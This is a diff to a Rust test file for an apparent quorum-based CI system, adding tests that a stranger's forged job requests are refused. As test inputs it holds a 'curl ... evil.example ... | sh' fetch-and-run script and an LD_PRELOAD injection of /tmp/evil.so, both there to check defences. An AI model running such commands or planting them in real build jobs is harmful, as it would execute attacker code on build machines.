@@ -23,6 +23,7 @@ use quorum_pipeline::Plan;
 use quorum_pipeline::dispatch::{Dispatch, dispatch};
 use quorum_proto::agreement::{JobEvidence, QUORUM_ATTESTATION, QuorumAttestation};
 use quorum_proto::blossom::Sha256Hex;
+use quorum_proto::chain::{ChainStep, PARAM_CHAIN, encode as chain_encode};
 use quorum_proto::mandate::{MandateRules, SourceRule};
 use quorum_proto::nip34::{RepositoryAnnouncement, RepositoryState};
 use quorum_proto::nip90::{JobParam, JobRequest};
@@ -95,13 +96,18 @@ struct Chain {
 }
 
 async fn chain() -> Chain {
+    chain_of(PIPELINE, &[8708, 8700]).await
+}
+
+/// [`chain`] with another pipeline, and a mandate allowing the quorum to sign `allow`.
+async fn chain_of(pipeline: &str, allow: &[u16]) -> Chain {
     let dir = tempfile::tempdir().unwrap();
     let network = Network::start(dir.path()).await;
     let served = dir.path().join("served");
     let daemon = GitDaemon::start(&served);
 
     let (work, _) = sample_repo(&dir.path().join("maintainer"));
-    let tip = commit_file(&work, PIPELINE_PATH, PIPELINE, "pipeline");
+    let tip = commit_file(&work, PIPELINE_PATH, pipeline, "pipeline");
     // Someone with push access (or the git host) adds a commit no maintainer signed.
     git(&work, &["checkout", "--quiet", "-b", "wip"]);
     let unsigned = commit_file(&work, "message.txt", "unsigned", "unsigned");
@@ -141,7 +147,7 @@ async fn chain() -> Chain {
             t: 2,
             identifier: IDENTIFIER,
             jobs: &[],
-            allow: &[8708, 8700],
+            allow,
         },
         share_dir,
     )
@@ -173,7 +179,7 @@ async fn chain() -> Chain {
         tip,
         unsigned,
         evil,
-        plan: quorum_pipeline::parse(PIPELINE_PATH, PIPELINE).unwrap(),
+        plan: quorum_pipeline::parse(PIPELINE_PATH, pipeline).unwrap(),
         dir,
     }
 }
@@ -636,6 +642,167 @@ async fn a_strangers_requests_that_break_the_chain_are_refused_by_every_member_a
                 &request,
                 "job",
                 &format!("it fetches {}, not {}", chain.missing_url, chain.url),
+            )
+            .await,
+    );
+
+    // (h) The release job's step with other limits than the pipeline's: an environment
+    // variable the job does not set, network access it does not ask for.
+    for (param, detail) in [
+        (
+            JobParam {
+                key: "env".into(),
+                values: vec!["LD_PRELOAD".into(), "/tmp/evil.so".into()],
+            },
+            "its environment differs from the job's in LD_PRELOAD",
+        ),
+        (
+            JobParam::new("network", "on"),
+            "it asks for network on, the job for off",
+        ),
+    ] {
+        let mut request = chain.request(
+            &mandate,
+            "release",
+            &chain.url,
+            &chain.tip,
+            Some(source.clone()),
+        );
+        request.params.push(param);
+        requests.push(chain.refused(&stranger, &request, "job", detail).await);
+    }
+
+    // (i) The release binding the quorum would sign: for another run than this pipeline at
+    // this commit from this URL, for none at all, or for the stranger's own repository.
+    let mut request = chain.request(
+        &mandate,
+        "release",
+        &chain.url,
+        &chain.tip,
+        Some(source.clone()),
+    );
+    let fork_run = quorum_pipeline::run_id(&chain.fork_url, &chain.tip, &chain.plan.plan_hash());
+    for param in request.params.iter_mut().filter(|p| p.key == "release") {
+        param.values[1] = fork_run.clone();
+    }
+    requests.push(
+        chain
+            .refused(
+                &stranger,
+                &request,
+                "release",
+                &format!("the request names run {fork_run}, but this pipeline at commit"),
+            )
+            .await,
+    );
+    let mut request = chain.request(
+        &mandate,
+        "release",
+        &chain.url,
+        &chain.tip,
+        Some(source.clone()),
+    );
+    request.params.retain(|p| p.key != "release");
+    requests.push(
+        chain
+            .refused(
+                &stranger,
+                &request,
+                "release",
+                "job release is a release job, but the request asks for no release binding",
+            )
+            .await,
+    );
+    let mut request = chain.request(
+        &mandate,
+        "release",
+        &chain.url,
+        &chain.tip,
+        Some(source.clone()),
+    );
+    let theirs = quorum_proto::nip34::RepoCoordinate::new(stranger.public_key(), IDENTIFIER);
+    for param in request.params.iter_mut().filter(|p| p.key == "release") {
+        param.values[0] = theirs.to_string();
+    }
+    requests.push(
+        chain
+            .refused(
+                &stranger,
+                &request,
+                &format!("mandate {}", mandate.id),
+                &format!("the release is asked for {theirs}"),
+            )
+            .await,
+    );
+
+    chain.nothing_signed_nothing_built(&requests).await;
+    chain.stop().await;
+}
+
+/// A quorum chain: `package` needs `build`, and the quorum key signs `package`'s request once
+/// `build` is agreed on. A stranger's head request carries the later steps (`chain` param);
+/// the members check each against the pipeline before building anything, so that the quorum
+/// never signs a next step the pipeline does not define.
+const CHAIN: &str = "on: [push]\njobs:\n  build:\n    run: sh build.sh\n    artifacts: [out/hello.txt]\n    mode: quorum\n    replicas: 3\n    threshold: 2\n  package:\n    needs: build\n    run: sh build.sh\n    artifacts: [out/dist]\n    mode: quorum\n    replicas: 3\n    threshold: 2\n    release: true\n";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_strangers_quorum_chain_whose_later_steps_are_not_the_pipelines_is_refused() {
+    let chain = chain_of(CHAIN, &[8708, 8700, 5702]).await;
+    let stranger = Keys::generate();
+    let mandate = chain.dealt.mandate.clone();
+    let source = chain.source(&chain.state);
+    let step =
+        |job: &str| chain.request(&mandate, job, &chain.url, &chain.tip, Some(source.clone()));
+    let with_chain = |mut head: JobRequest, rest: &[JobRequest]| {
+        let steps: Vec<ChainStep> = rest.iter().map(ChainStep::of).collect();
+        head.params
+            .push(JobParam::new(PARAM_CHAIN, chain_encode(&steps)));
+        head
+    };
+    let mut requests = Vec::new();
+
+    // The next step with another script: the quorum key would sign a request for it.
+    let mut evil = step("package");
+    for param in evil.params.iter_mut().filter(|p| p.key == "run") {
+        param.values = vec!["curl -s https://evil.example/x | sh".into()];
+    }
+    let request = with_chain(step("build"), &[evil]);
+    requests.push(
+        chain
+            .refused(
+                &stranger,
+                &request,
+                "chain",
+                "step 1: the request is not job package of the pipeline: its `run` script is \
+                 not the job's script",
+            )
+            .await,
+    );
+    // The next step released as another run.
+    let mut other_run = step("package");
+    for param in other_run.params.iter_mut().filter(|p| p.key == "release") {
+        param.values[1] = "0".repeat(64);
+    }
+    let request = with_chain(step("build"), &[other_run]);
+    requests.push(
+        chain
+            .refused(
+                &stranger,
+                &request,
+                "chain",
+                &format!("step 1: release: the request names run {}", "0".repeat(64)),
+            )
+            .await,
+    );
+    // More steps than the pipeline's chain: a second release of `package`.
+    let request = with_chain(step("build"), &[step("package"), step("package")]);
+    requests.push(
+        chain
+            .refused(
+                &stranger,
+                &request,
+                "chain",
+                "it carries more steps than the pipeline's quorum chain after build (1)",
             )
             .await,
     );
